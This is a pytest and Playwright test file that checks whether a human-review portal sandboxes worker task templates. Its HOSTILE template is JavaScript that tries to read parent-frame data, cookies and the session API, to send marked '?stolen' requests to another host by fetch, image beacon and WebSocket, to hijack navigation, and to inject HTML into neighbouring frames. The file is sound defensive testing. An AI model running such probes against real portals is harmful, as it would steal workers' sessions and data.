"""A worker task template is other people's script: what it cannot reach from its frame."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import Page, Route
from reviewing import output_uri, sign_in, task_frame, wait_for_spare
from support import ReviewDesk, wait_for_json, wait_until

HOSTILE = """
<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>
<crowd-form><input name="findings" value=""></crowd-form>
{% if task.input.elsewhere %}
<script>
async function tries(action) {
  try { return "reached: " + await action(); } catch (error) { return error.name; }
}
function loads(tag, address) {
  return new Promise((resolve, reject) => {
    const element = document.createElement(tag);
    element.onload = () => resolve("loaded");
    element.onerror = () => reject(new TypeError("refused"));
    element.src = address;
    document.head.append(element);
  });
}
document.addEventListener("all-crowd-elements-ready", async () => {
  const base = new URL(location.href).origin;
  const findings = {
    parentDocument: await tries(() => window.parent.document.title),
    parentStorage: await tries(() => window.parent.localStorage.length),
    ownStorage: await tries(() => localStorage.length),
    cookies: await tries(() => document.cookie),
    apiSession: await tries(async () => (await fetch("/portal/api/session", {credentials: "include"})).status),
    apiQueue: await tries(async () => (await fetch(base + "/portal/api/queue", {mode: "no-cors"})).type),
    elsewhere: await tries(async () => (await fetch("{{ task.input.elsewhere }}/?stolen", {mode: "no-cors"})).type),
    socket: await tries(() => new Promise((resolve, reject) => {
      const socket = new WebSocket("{{ task.input.elsewhere }}/".replace("http", "ws"));
      socket.onopen = () => resolve("open");
      socket.onerror = () => reject(new TypeError("refused"));
    })),
    beacon: await tries(() => loads("img", "{{ task.input.elsewhere }}/?stolen")),
    portalScript: await tries(() => loads("script", base + "/portal/static/main.js")),
    topNavigation: await tries(() => { window.top.location = "{{ task.input.elsewhere }}/"; return "left"; }),
    popup: await tries(() => { if (!window.open("{{ task.input.elsewhere }}/")) throw new TypeError("refused"); }),
    origin: await tries(() => window.origin),
  };
  document.querySelector("input").value = JSON.stringify(findings);
  window.parent.postMessage({type: "review-desk:ready"}, "*");
  document.querySelector("crowd-form").submit();
});
</script>
{% endif %}
"""


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """Another web server, and the paths it was asked for."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()


@pytest.mark.parametrize("is_prepared", [False, True], ids=["new frame", "prepared frame"])
def test_a_hostile_template_reaches_nothing(
    page: Page,
    review_desk_server: ReviewDesk,
    s3: Any,
    elsewhere: tuple[str, list[str]],
    is_prepared: bool,
) -> None:
    address, asked = elsewhere
    name = "prepared" if is_prepared else "hostile"
    arn = review_desk_server.create_flow_definition(name, HOSTILE)
    for number in range(1 if is_prepared else 2, 3):
        review_desk_server.client("sagemaker-a2i-runtime").start_human_loop(
            HumanLoopName=f"{name}-{number}",
            FlowDefinitionArn=arn,
            HumanLoopInput={"InputContent": json.dumps({"elsewhere": address} if number == 2 else {})},
        )
    sign_in(page, review_desk_server)
    page.keyboard.press("Enter")
    if is_prepared:
        harmless = task_frame(page, f"{name}-1")
        wait_for_spare(page)
        harmless.evaluate("document.querySelector('crowd-form').submit()")
    page.wait_for_selector(".outcome")
    output = wait_for_json(s3, output_uri(review_desk_server, f"{name}-2"))
    findings = json.loads(output["humanAnswers"][0]["answerContent"]["findings"])
    origin = findings.pop("origin")
    assert origin == "reached: null"
    assert {name: text for name, text in findings.items() if text.startswith("reached")} == {}
    assert len(findings) == 12
    assert asked == []
    assert page.url.startswith(review_desk_server.url)


def test_a_frame_opened_by_itself_is_a_sandbox_too(page: Page, review_desk_server: ReviewDesk) -> None:
    arn = review_desk_server.create_flow_definition(
        "alone", "<script>document.title = window.origin</script>"
    )
    review_desk_server.client("sagemaker-a2i-runtime").start_human_loop(
        HumanLoopName="alone-1", FlowDefinitionArn=arn, HumanLoopInput={"InputContent": "{}"}
    )
    portal = review_desk_server.portal()
    task = portal.claim(human_loop="alone-1").json()
    page.goto(review_desk_server.url + task["frame_url"])
    assert page.title() == "null"
    portal.http.post(f"/portal/api/tasks/{task['id']}/release", json={})


def test_a_task_cannot_write_into_the_frame_of_the_next(page: Page, review_desk_server: ReviewDesk) -> None:
    arn = review_desk_server.create_flow_definition("neighbours", HOSTILE)
    for number in (1, 2):
        review_desk_server.client("sagemaker-a2i-runtime").start_human_loop(
            HumanLoopName=f"neighbour-{number}", FlowDefinitionArn=arn, HumanLoopInput={"InputContent": "{}"}
        )
    sign_in(page, review_desk_server)
    page.click("main .card:has-text('neighbours') button")
    first = task_frame(page, "neighbour-1")
    wait_for_spare(page)
    first.evaluate(
        """() => {
          for (let number = 0; number < parent.frames.length; number++) {
            parent.frames[number].postMessage({type: "review-desk:page", html: "<p id=evil>"}, "*");
          }
        }"""
    )
    page.wait_for_timeout(300)
    assert not any(frame.query_selector("#evil") for frame in page.frames)
    first.click("text=Submit")
    task_frame(page, "neighbour-2").click("text=Submit")
    page.wait_for_selector(".outcome")


def test_only_the_frame_of_the_task_is_listened_to(page: Page, review_desk_server: ReviewDesk) -> None:
    """A message of another window, here the portal's own, does not submit anything."""
    arn = review_desk_server.create_flow_definition(
        "spoofed",
        '<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>'
        '<crowd-form><input name="a"></crowd-form>',
    )
    review_desk_server.client("sagemaker-a2i-runtime").start_human_loop(
        HumanLoopName="spoofed-1", FlowDefinitionArn=arn, HumanLoopInput={"InputContent": "{}"}
    )
    submitted: list[str] = []
    page.on(
        "request", lambda request: submitted.append(request.url) if request.url.endswith("/submit") else None
    )
    sign_in(page, review_desk_server)
    page.click("main .card:has-text('spoofed') button")
    frame = task_frame(page, "spoofed-1")
    page.evaluate("window.postMessage({type: 'review-desk:submit', answer: {a: 'spoofed'}}, '*')")
    page.wait_for_timeout(300)
    assert submitted == []
    frame.fill("input", "mine")
    frame.click("text=Submit")
    page.wait_for_selector(".outcome")
    assert len(submitted) == 1


ENDLESS = """
<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>
<crowd-form><label>Text <input name="text"></label></crowd-form>
{% if task.input.endless %}<script>for (;;);</script>{% endif %}
"""


def test_a_script_that_never_ends_holds_up_only_its_own_task(
    page: Page, review_desk_server: ReviewDesk
) -> None:
    """Chromium runs all frames of tasks in one process: the page of the next task can hold the present one up, once."""
    arn = review_desk_server.create_flow_definition("endless", ENDLESS)
    runtime = review_desk_server.client("sagemaker-a2i-runtime")
    for number, endless in ((1, False), (2, True)):
        runtime.start_human_loop(
            HumanLoopName=f"endless-{number}",
            FlowDefinitionArn=arn,
            HumanLoopInput={"InputContent": json.dumps({"endless": endless})},
        )
    sign_in(page, review_desk_server)
    held: list[Route] = []
    page.route("**/portal/api/tasks/offer", lambda route: held.append(route))
    page.click("main .card:has-text('endless') button")
    task_frame(page, "endless-1").locator("input").fill("before")
    page.wait_for_selector(".save:has-text('Draft saved')")
    wait_until(lambda: page.wait_for_timeout(50) or held)
    held.pop().continue_()
    page.unroute("**/portal/api/tasks/offer")
    page.locator("#notices").get_by_role("button", name="Reload").click(timeout=20_000)

    frame = task_frame(page, "endless-1")
    assert frame.locator("input").input_value() == "before"
    wait_for_spare(page)
    page.wait_for_timeout(1000)
    page.keyboard.press("End")
    page.keyboard.type(" and after")
    assert frame.locator("input").input_value() == "before and after"
    page.keyboard.press("Control+Enter")
    page.wait_for_selector(".top-task .loop:text-is('endless-2')")
    page.locator("#notices").get_by_text("Reload the task's page").wait_for(timeout=20_000)
    page.locator(".top-task").get_by_role("button", name="Release").click()
    page.wait_for_selector("main .card button")
    assert runtime.describe_human_loop(HumanLoopName="endless-1")["HumanLoopStatus"] == "Completed"
    runtime.stop_human_loop(HumanLoopName="endless-2")
